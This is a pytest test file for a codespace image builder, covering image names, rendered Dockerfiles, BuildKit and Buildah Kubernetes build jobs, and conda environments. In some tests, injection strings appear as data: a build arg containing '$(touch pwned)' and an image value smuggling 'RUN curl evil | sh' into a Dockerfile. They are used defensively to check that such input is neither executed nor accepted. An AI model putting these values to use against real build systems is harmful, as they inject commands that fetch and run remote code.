"""Image names, the rendered Dockerfile and the build Job (BuildKit and Buildah)."""

from __future__ import annotations

import json
import shlex
import subprocess
import sys
from pathlib import Path

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from codespace.envhash import dockerfile_instructions
from codespace.kernel_layer import KERNEL_DISPLAY_NAME, kernel_layer_requirements
from codespace.kube.build_job import build_job, build_job_name, build_steps
from codespace.kube.config import DEFAULT_BASE_IMAGE, DEFAULT_GPU_BASE_IMAGE, parse_config
from codespace.kube.image import (
    ImageChoice,
    ImageError,
    choose_image,
    image_name,
    image_tag,
    repo_slug,
)
from codespace.spec.model import Codespace
from tests.conftest import require_executable
from tests.helpers.k8s_schema import assert_valid
from tests.helpers.repos import git, make_repo

HASH = "0123456789abcdef" * 4


@pytest.mark.parametrize(
    ("repo", "slug"),
    [
        ("https://github.com/Org/My_Repo.git", "github-com-org-my-repo"),
        ("git@gitlab.example.org:team/sub/project.git", "gitlab-example-org-team-sub-project"),
        ("ssh://git@host:2222/a/b", "host-2222-a-b"),
        ("/srv/repos/demo", "srv-repos-demo"),
    ],
)
def test_repo_slug_is_a_valid_registry_path_component(repo, slug):
    assert repo_slug(repo) == slug
    name = image_name("registry.example.org:5000/codespaces/", repo, HASH)
    assert name == f"registry.example.org:5000/codespaces/{slug}:{HASH[:32]}"


def test_a_code_only_change_keeps_the_image_name():
    # the tag is the environment hash, nothing else about the commit
    assert image_name("r", "https://h/a.git", HASH) == image_name("r", "https://h/a.git", HASH)
    assert image_name("r", "https://h/a.git", HASH) != image_name("r", "https://h/a.git", "9" * 64)


def test_default_codespace_runs_the_base_image_without_a_build():
    config = parse_config({})
    choice = choose_image(Codespace(), config, "https://h/a.git", HASH, gpu=False)
    assert choice.image == config.build.baseImage and not choice.needs_build
    gpu_choice = choose_image(Codespace(), config, "https://h/a.git", HASH, gpu=True)
    assert gpu_choice.image == config.build.gpuBaseImage


def test_dockerfile_adds_apt_uv_environment_and_post_build():
    codespace = Codespace(
        apt=["graphviz", "libgl1"],
        python={"version": "3.12", "requirements": ["requirements.txt", "env/dev.txt"]},
        postBuild="binder/postBuild",
    )
    choice = choose_image(codespace, parse_config({}), "https://h/a.git", HASH, gpu=False)
    text = choice.dockerfile
    assert text.startswith("# Rendered") and "FROM ghcr.io/codespace-hub/singleuser:" in text
    assert "apt-get install -y --no-install-recommends graphviz libgl1" in text
    assert "uv venv --python 3.12 /opt/codespace/env" in text
    assert 'COPY "env/dev.txt" "/tmp/codespace-build/req1-dev.txt"' in text
    assert (
        "-r /tmp/codespace-build/req0-requirements.txt -r /tmp/codespace-build/req1-dev.txt" in text
    )
    # the kernel layer of the local mode, its kernelspec `codespace` found via JUPYTER_PATH
    assert f"--env /opt/codespace/env --display-name {shlex.quote(KERNEL_DISPLAY_NAME)}" in text
    assert 'JUPYTER_PATH="/opt/codespace/env/share/jupyter"' in text
    assert "ipykernel install" not in text and "--name python3" not in text
    assert 'COPY "binder/postBuild"' in text and text.index("postBuild") > text.index("uv pip")


def test_apt_names_are_quoted_for_the_shell():
    choice = choose_image(Codespace(apt=["g++"]), parse_config({}), "/r", HASH, gpu=False)
    assert "--no-install-recommends g++ " in choice.dockerfile


def _job(tool: str, codespace: Codespace, **registry):
    config = parse_config({"build": {"tool": tool}, "registry": registry})
    choice = choose_image(codespace, config, "https://h/a.git", HASH, gpu=False)
    return choice, assert_valid(
        build_job(choice, config, repo="https://h/a.git", ref="v1", namespace="ns")
    )


def _steps(builder: dict) -> list[list[str]]:
    """The builder's argument lists back from its positional arguments (count, argv...)."""
    args, steps = list(builder["args"]), []
    while args:
        count = int(args.pop(0))
        steps.append(args[:count])
        del args[:count]
    return steps


def test_buildkit_job_is_rootless_and_pushes_the_image():
    choice, job = _job("buildkit", Codespace(apt=["curl"]), pushSecret="push", insecure=True)
    assert job["metadata"]["name"] == build_job_name(choice.image)
    pod = job["spec"]["template"]["spec"]
    assert job["spec"]["backoffLimit"] == 0 and pod["restartPolicy"] == "Never"
    builder = pod["containers"][0]
    [step] = _steps(builder)
    assert step[:2] == ["buildctl-daemonless.sh", "build"]
    assert f"--output=type=image,name={choice.image},push=true,registry.insecure=true" in step
    assert {"name": "BUILDKIT_INSECURE_REGISTRY", "value": "registry.codespace.svc:5000"} in (
        builder["env"]
    )
    assert builder["securityContext"]["runAsUser"] == 1000
    assert "privileged" not in builder["securityContext"]
    assert {"name": "DOCKER_CONFIG", "value": "/home/user/.docker"} in builder["env"]
    assert not any("docker.sock" in str(v) for v in pod["volumes"])
    clone = pod["initContainers"][0]
    assert clone["args"] == ["https://h/a.git", "v1", choice.dockerfile]


REPOSITORY_DOCKERFILE = Codespace(
    build={
        "dockerfile": ".devcontainer/Dockerfile",
        "context": ".devcontainer",
        "args": {"V": "1"},
        "target": "dev",
    },
    python={"requirements": ["requirements.txt"]},
)


def test_buildah_job_builds_the_repository_dockerfile_then_adds_the_platform():
    choice, job = _job("buildah", REPOSITORY_DOCKERFILE, insecure=True)
    tag = image_tag(HASH, choice.platform_image)
    assert choice.needs_build and choice.image.endswith(":" + tag)
    assert choice.repository_image == choice.image + "-base"
    builder = job["spec"]["template"]["spec"]["containers"][0]
    first, overlay, push = _steps(builder)
    # the repository's Dockerfile as written: its file, context, arguments and target
    assert first[first.index("-f") + 1] == "/build/context/.devcontainer/Dockerfile"
    assert first[first.index("-t") + 1] == choice.repository_image
    assert first[-1] == "/build/context/.devcontainer"
    assert "--build-arg=V=1" in first and "--target=dev" in first
    # then the rendered overlay, FROM that image, with the repository root as its context
    assert overlay[overlay.index("-f") + 1] == "/build/dockerfile/Dockerfile"
    assert overlay[overlay.index("-t") + 1] == choice.image and overlay[-1] == "/build/context"
    assert "--target=dev" not in overlay
    assert push == [
        "buildah",
        "push",
        "--storage-driver",
        "vfs",
        "--tls-verify=false",
        choice.image,
    ]
    assert f"FROM {choice.repository_image}\n" in choice.dockerfile
    # user data reaches the shell only as positional arguments
    assert choice.image not in builder["command"][2] and "V=1" not in builder["command"][2]


def test_build_keys_the_image_build_does_not_use_are_warnings():
    spec = Codespace(build={"dockerfile": "Dockerfile", "cacheFrom": "x:1", "options": ["--q"]})
    choice = choose_image(spec, parse_config({}), "/r", HASH, gpu=False)
    assert choice.warnings == (
        "build.cacheFrom is not used by the image build",
        "build.options is not used by the image build",
    )
    assert REPOSITORY_DOCKERFILE.build.cacheFrom is None
    assert choose_image(REPOSITORY_DOCKERFILE, parse_config({}), "/r", HASH, False).warnings == ()


def test_buildkit_job_pushes_the_repository_image_and_builds_the_overlay_from_it():
    choice, job = _job("buildkit", REPOSITORY_DOCKERFILE, pushSecret="push")
    first, overlay = _steps(job["spec"]["template"]["spec"]["containers"][0])
    assert "--local=context=/build/context/.devcontainer" in first
    assert "--local=dockerfile=/build/context/.devcontainer" in first
    assert f"--output=type=image,name={choice.repository_image},push=true" in first
    assert "--opt=build-arg:V=1" in first and "--opt=target=dev" in first
    assert "--local=context=/build/context" in overlay
    assert "--local=dockerfile=/build/dockerfile" in overlay
    assert f"--output=type=image,name={choice.image},push=true" in overlay
    assert not any(arg.startswith("--opt=target") for arg in overlay)


def _fake_tool(directory: Path, name: str, log: Path) -> None:
    """An executable that records its arguments (and BUILDKITD_FLAGS) as one JSON line."""
    script = directory / name
    script.write_text(
        f"#!{sys.executable}\n"
        "import json, os, sys\n"
        f"with open({str(log)!r}, 'a') as out:\n"
        "    out.write(json.dumps([sys.argv[1:], os.environ.get('BUILDKITD_FLAGS')]) + '\\n')\n"
    )
    script.chmod(0o755)


@pytest.mark.parametrize("tool", ["buildkit", "buildah"])
def test_the_builder_runs_each_step_with_its_arguments_intact(tmp_path: Path, tool: str):
    require_executable("sh")
    awkward = {"QUOTE": 'it\'s "$(touch pwned)" `x`', "SPACES": "a  b", "EMPTY": ""}
    codespace = Codespace(build={"dockerfile": "Dockerfile", "args": awkward})
    config = parse_config({"build": {"tool": tool}, "registry": {"insecure": True}})
    choice = choose_image(codespace, config, "https://h/a.git", HASH, gpu=False)
    builder = build_job(choice, config, repo="https://h/a.git", ref=None, namespace="ns")
    builder = builder["spec"]["template"]["spec"]["containers"][0]
    bin_dir, log = tmp_path / "bin", tmp_path / "calls.jsonl"
    bin_dir.mkdir()
    for name in ("buildctl-daemonless.sh", "buildah"):
        _fake_tool(bin_dir, name, log)
    script = builder["command"][2].replace("/build/", f"{tmp_path}/")
    env = {e["name"]: e["value"] for e in builder["env"]}
    env["PATH"] = f"{bin_dir}:/usr/bin:/bin"
    subprocess.run(
        ["sh", "-c", script, "build", *builder["args"]], env=env, cwd=tmp_path, check=True
    )
    calls = [json.loads(line) for line in log.read_text().splitlines()]
    steps = build_steps(choice, config)
    assert steps == _steps(builder) and len(steps) == (2 if tool == "buildkit" else 3)
    assert [args for args, _ in calls] == [argv[1:] for argv in steps]
    assert '--build-arg=QUOTE=it\'s "$(touch pwned)" `x`' in calls[0][0] or (
        '--opt=build-arg:QUOTE=it\'s "$(touch pwned)" `x`' in calls[0][0]
    )
    assert not (tmp_path / "pwned").exists()
    if tool == "buildkit":  # the daemon may pull the repository image over plain HTTP
        assert calls[-1][1].endswith(f"--config={tmp_path}/buildkitd.toml")
        toml = (tmp_path / "buildkitd.toml").read_text()
        assert (
            toml == '[registry."registry.codespace.svc:5000"]\n  http = true\n  insecure = true\n'
        )


def test_the_build_context_clone_script_checks_out_the_ref(tmp_path: Path):
    require_executable("git")
    repo = make_repo(tmp_path / "repo", {"requirements.txt": "rich\n"})
    git(repo, "tag", "v1")
    config = parse_config({})
    choice = choose_image(Codespace(apt=["curl"]), config, str(repo), HASH, gpu=False)
    job = build_job(choice, config, repo=str(repo), ref="v1", namespace="ns")
    clone = job["spec"]["template"]["spec"]["initContainers"][0]
    script = clone["command"][2].replace("/build", str(tmp_path / "build"))
    subprocess.run(["sh", "-c", script, "clone", *clone["args"]], check=True)
    assert (tmp_path / "build/context/requirements.txt").read_text() == "rich\n"
    assert (tmp_path / "build/dockerfile/Dockerfile").read_text() == choice.dockerfile


def test_environment_yml_is_solved_by_micromamba():
    codespace = Codespace(
        python={
            "manager": "conda",
            "environmentFile": "binder/environment.yml",
            "version": "3.12",
            "requirements": ["requirements.txt"],
        },
        postBuild="binder/postBuild",
    )
    config = parse_config({})
    choice = choose_image(codespace, config, "https://h/a.git", HASH, gpu=False)
    text = choice.dockerfile
    assert "COPY --from=mambaorg/micromamba:2.0.5 /bin/micromamba /usr/local/bin/micromamba" in text
    assert "chown ${NB_UID:-1000}:${NB_GID:-100} /opt/codespace\n" in text
    assert "uv venv" not in text
    instructions = dockerfile_instructions(text)
    [create] = [args for name, args in instructions if "micromamba create" in args]
    # the repository is bind-mounted (writable, discarded) so pip: -r/-e paths work from the
    # file's directory; the spec's Python joins the file's own specs; conda-forge by default
    assert create.startswith("--mount=type=bind,source=.,target=/tmp/codespace-build/context,rw ")
    assert "--prefix /opt/codespace/env" in create
    assert "--file /tmp/codespace-build/context/binder/environment.yml python=3.12 pip" in create
    assert "--rc-file /tmp/codespace-mambarc" in create and "micromamba clean --all" in create
    assert ("RUN", "printf 'channels:\\n  - conda-forge\\n' > /tmp/codespace-mambarc") in (
        instructions
    )
    # the requirement files, then the kernel layer, go into the conda environment's Python
    install = "uv pip install --python /opt/codespace/env/bin/python"
    assert f"{install} -r /tmp/codespace-build/req0-requirements.txt" in text
    layer = f"{install} {shlex.join(kernel_layer_requirements())}"
    assert text.index("micromamba create") < text.index("req0-requirements.txt\nRUN")
    assert text.index("-r /tmp/codespace-build/req0") < text.index(layer)
    assert text.index(layer) < text.index("binder/postBuild")
    assert_valid(build_job(choice, config, repo="https://h/a.git", ref=None, namespace="ns"))


def test_an_environment_file_among_the_requirements_is_a_conda_environment():
    codespace = Codespace(python={"requirements": ["environment.yaml", "dev.txt"]})
    text = choose_image(codespace, parse_config({}), "/r", HASH, gpu=False).dockerfile
    assert "--file /tmp/codespace-build/context/environment.yaml pip" in text
    assert "environment.yaml" not in text.split("micromamba clean")[1]
    assert "-r /tmp/codespace-build/req1-dev.txt" in text


PLATFORM_SPECS = st.builds(
    lambda image, build, apt, requirements, version: Codespace(
        image=image,
        build=build,
        apt=apt,
        python={"requirements": requirements, "version": version},
    ),
    image=st.sampled_from(
        [None, "python:3.11", "ubuntu:22.04", DEFAULT_BASE_IMAGE, DEFAULT_GPU_BASE_IMAGE]
    ),
    build=st.sampled_from(
        [
            None,
            {"context": "."},
            {"dockerfile": "Dockerfile"},
            {"dockerfile": ".devcontainer/Dockerfile", "context": ".devcontainer", "target": "t"},
        ]
    ),
    apt=st.sampled_from([[], ["curl"]]),
    requirements=st.sampled_from([[], ["requirements.txt"], ["environment.yml"]]),
    version=st.sampled_from([None, "3.12"]),
)


def _has_the_platform(choice: ImageChoice, config) -> bool:
    """The pod's image is a platform image, or its Dockerfile adds the platform to the
    image its last stage starts from (and runs the server)."""
    platforms = {config.build.baseImage, config.build.gpuBaseImage}
    if not choice.needs_build:
        return choice.image in platforms
    instructions = dockerfile_instructions(choice.dockerfile)
    starts = [i for i, (name, _) in enumerate(instructions) if name == "FROM"]
    last_from = instructions[starts[-1]][1]
    if last_from in platforms:
        return True
    stages = {
        args.split(" AS ")[1]
        for name, args in instructions
        if name == "FROM" and " AS " in args and args.split(" AS ")[0] in platforms
    }
    final = instructions[starts[-1] + 1 :]
    return any(("COPY", f"--from={stage} /opt /opt") in final for stage in stages) and (
        ("CMD", '["jupyterhub-singleuser"]') in final
    )


@settings(max_examples=80, deadline=None)
@given(spec=PLATFORM_SPECS, gpu=st.booleans())
def test_no_spec_makes_the_pod_run_an_image_without_the_server(spec: Codespace, gpu: bool):
    config = parse_config({})
    choice = choose_image(spec, config, "https://h/a.git", HASH, gpu=gpu)
    assert _has_the_platform(choice, config), choice.dockerfile
    platforms = {config.build.baseImage, config.build.gpuBaseImage}
    assert choice.image != spec.image or spec.image in platforms
    if spec.build is not None and spec.build.dockerfile:  # a Dockerfile wins over an image
        assert choice.image != choice.repository_image and choice.dockerfile_path
        assert choice.user_image == choice.repository_image
    elif spec.image and spec.image not in platforms:
        assert choice.user_image == spec.image


@pytest.mark.parametrize("gpu", [False, True])
def test_a_devcontainer_image_is_the_base_the_platform_is_added_to(gpu: bool):
    config = parse_config({})
    spec = Codespace(image="python:3.11", python={"requirements": ["requirements.txt"]})
    choice = choose_image(spec, config, "https://h/a.git", HASH, gpu=gpu)
    platform = config.build.gpuBaseImage if gpu else config.build.baseImage
    tag = image_tag(HASH, choice.platform_image)
    assert choice.image == image_name(config.registry.prefix, "https://h/a.git", tag)
    assert choice.needs_build and choice.platform_image == platform
    instructions = dockerfile_instructions(choice.dockerfile)
    assert instructions[:4] == [
        ("FROM", f"{platform} AS codespace-platform"),
        ("FROM", "python:3.11"),
        ("USER", "root"),
        ("COPY", "--from=codespace-platform /opt /opt"),
    ]
    assert ("COPY", "--from=codespace-platform /etc/jupyter /etc/jupyter") in instructions
    runs = "\n".join(args for name, args in instructions if name == "RUN")
    assert "if command -v apt-get" in runs and "git openssh-server" in runs
    assert "useradd --create-home --uid 1000 --gid 100" in runs
    # the environment is made from the image's own Python, seeing its packages
    assert '--system-site-packages --python "$(command -v python3)" /opt/codespace/env' in runs
    assert shlex.join(kernel_layer_requirements()) in runs
    env = " ".join(args for name, args in instructions if name == "ENV")
    assert 'PATH="/opt/codespace/env/bin:/opt/platform/bin:/opt/code-server/bin:$PATH"' in env
    assert instructions[-2:] == [
        ("ENTRYPOINT", '["/opt/platform/bin/tini", "--"]'),
        ("CMD", '["jupyterhub-singleuser"]'),
    ]
    for tool in ("buildkit", "buildah"):
        tool_config = parse_config({"build": {"tool": tool}})
        job = build_job(choice, tool_config, repo="https://h/a.git", ref=None, namespace="ns")
        assert_valid(job)
        clone = job["spec"]["template"]["spec"]["initContainers"][0]
        assert clone["args"][2] == choice.dockerfile


def test_naming_the_platform_image_is_the_same_as_naming_none():
    config = parse_config({})
    named = Codespace(image=config.build.baseImage)
    choice = choose_image(named, config, "https://h/a.git", HASH, gpu=False)
    assert choice.image == config.build.baseImage and not choice.needs_build


@pytest.mark.parametrize("image", ["python:3.11\nRUN curl evil | sh", "py thon", "'x'"])
def test_an_image_that_is_not_a_reference_is_refused(image: str):
    with pytest.raises(ImageError, match="not an image reference"):
        choose_image(Codespace(image=image), parse_config({}), "/r", HASH, gpu=False)
